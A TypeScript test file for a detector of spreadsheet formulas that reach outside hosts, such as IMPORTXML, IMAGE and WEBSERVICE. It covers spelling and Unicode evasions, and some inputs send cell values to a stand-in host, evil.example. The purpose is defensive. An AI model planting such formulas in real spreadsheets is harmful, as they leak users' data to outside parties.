import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { isFormula, reachingFunctions } from "./formulas.ts";

const NAMES = [
  "IMPORTXML",
  "IMPORTDATA",
  "IMPORTHTML",
  "IMPORTFEED",
  "IMPORTRANGE",
  "HYPERLINK",
  "IMAGE",
  "WEBSERVICE",
];

describe("GD7: a formula that reaches out is noticed", () => {
  test.each([
    ['=IMPORTXML("https://evil.example/?" & A1, "/")', "IMPORTXML"],
    ['=importxml ("https://evil.example")', "IMPORTXML"],
    ["=ImPoRtDaTa\n\t(A1)", "IMPORTDATA"],
    ['  =IMAGE("https://evil.example/"&B2)', "IMAGE"],
    ["+IMPORTFEED(A1)", "IMPORTFEED"],
    ["-IMPORTHTML(A1;1)", "IMPORTHTML"],
    ["@HYPERLINK(A1)", "HYPERLINK"],
    ['=IF(A1="";"";IMPORTRANGE(B1;"A:A"))', "IMPORTRANGE"],
    ["=ARRAYFORMULA({1\\IMAGE(A1:A3)})", "IMAGE"],
    ["{=IMAGE(A1)}", "IMAGE"],
    ["=MAP(A1:A3, IMAGE)", "IMAGE"],
    ["=LET(f, IMPORTDATA, f(A1))", "IMPORTDATA"],
    ["=_xlfn.WEBSERVICE(A1)", "WEBSERVICE"],
    ["＝ＩＭＡＧＥ（Ａ１）", "IMAGE"],
    ["=IM\u200bAGE(A1)", "IMAGE"],
    ["=A1&\u2060IMAGE(A1)", "IMAGE"],
    ["\u0001=IMAGE(A1)", "IMAGE"],
    ["=BILD(A1)", "BILD"],
    ["=hipervínculo(A1)", "HIPERVÍNCULO"],
  ])("%j", (formula, name) => {
    expect(reachingFunctions([["x", 1], [formula]])).toEqual([name]);
  });

  test("however it is spelled and wherever in a formula it stands", () => {
    const blank = fc.stringMatching(/^[ \t\n\u00a0]{0,3}$/);
    const around = fc.constantFrom(
      (call: string) => `=${call}`,
      (call: string) => `= SUM(1;${call})`,
      (call: string) => `=ARRAYFORMULA(IFERROR(${call},"x"))`,
      (call: string) => `+A1&${call}`,
      (call: string) => `={1,${call};2,3}`,
    );
    fc.assert(
      fc.property(
        fc.constantFrom(...NAMES),
        fc.infiniteStream(fc.boolean()),
        blank,
        blank,
        around,
        (name, upper, before, between, wrap) => {
          const spelled = [...name]
            .map((letter) => (upper.next().value ? letter : letter.toLowerCase()))
            .join("");
          const formula = before + wrap(`${spelled}${between}(A1)`);
          expect(reachingFunctions([[formula]])).toContain(name);
        },
      ),
      { seed: 7 },
    );
  });
});

test.each(["=SUM(A1:A3)", "image (1).png", "see IMPORTXML(x)", "'=IMAGE(A1)", "=IMAGES", "-5", ""])(
  "%j reaches nowhere",
  (text) => {
    expect(reachingFunctions([[text, null, true]])).toEqual([]);
  },
);

test.each<[string | number, boolean]>([
  ["=1+1", true],
  ["+A1", true],
  ["-12.5", false],
  ["+41 44 123 45 67", false],
  ["2026-01-01", false],
  ["text", false],
  [-5, false],
])("whether %j is a formula: %s", (cell, is) => {
  expect(isFormula(cell)).toBe(is);
});
